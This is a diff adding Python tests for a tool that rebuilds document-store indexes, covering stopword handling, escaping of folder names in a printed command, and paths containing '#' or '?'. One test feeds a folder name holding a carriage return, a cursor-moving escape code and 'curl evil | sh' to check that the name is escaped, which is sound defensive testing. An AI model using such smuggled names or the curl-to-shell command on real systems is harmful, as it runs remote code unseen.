@@ -287,3 +287,15 @@ def test_a_rebuild_of_a_store_with_one_of_jusTexts_stop_lists_is_said_to_take_st
     command, notes = rebuild_command(Path("model_store/w"), {**old, "name": "w", "tokenizer": {
         "stopwords": "Norwegian_Bokmal", "revision": 3}})
     assert "--stopwords" not in command and "no list for" in notes[0]
+    # a hostile folder's name cannot print another command over this one
+    command, _ = rebuild_command(Path("model_store/x\r\x1b[1Acurl evil | sh"), {"name": "x", "tokenizer": {}})
+    assert "\r" not in command and "\x1b" not in command and "\\r\\x1b[1A" in command
+
+
+def test_a_store_in_a_folder_whose_name_holds_a_hash_or_a_question_mark(records, tmp_path):
+    """Its path had been cut at the '#' of a SQLite "file:" URI: "no such table: docs"."""
+    folder = tmp_path / "blog #2?draft"
+    base_store(records, folder, count=30)
+    result = update(folder, [iter(records[30:33])], delete_ids=[records[0].id], progress=False)
+    after = Store(result.version_dir)
+    assert after.size == 32 and after.row_for_id(records[31].id) is not None and after.row_for_id(records[0].id) is None
